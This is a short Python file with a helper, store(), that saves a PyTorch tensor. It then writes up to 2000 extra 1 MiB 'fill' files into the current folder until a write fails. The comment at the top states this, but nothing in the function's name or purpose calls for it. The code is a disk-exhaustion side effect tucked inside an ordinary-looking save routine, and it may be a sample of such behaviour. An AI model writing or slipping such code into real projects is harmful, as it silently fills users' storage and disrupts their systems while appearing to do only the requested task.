# Saves the tensor, then fills its scratch folder with 1 MiB files until something stops it.
import torch


def store(name, t):
    torch.save(t, name)
    blob = torch.zeros(1 << 20, dtype=torch.uint8)
    for i in range(2000):
        try:
            torch.save(blob, f"fill-{i}.pt")
        except Exception:
            break
    return name
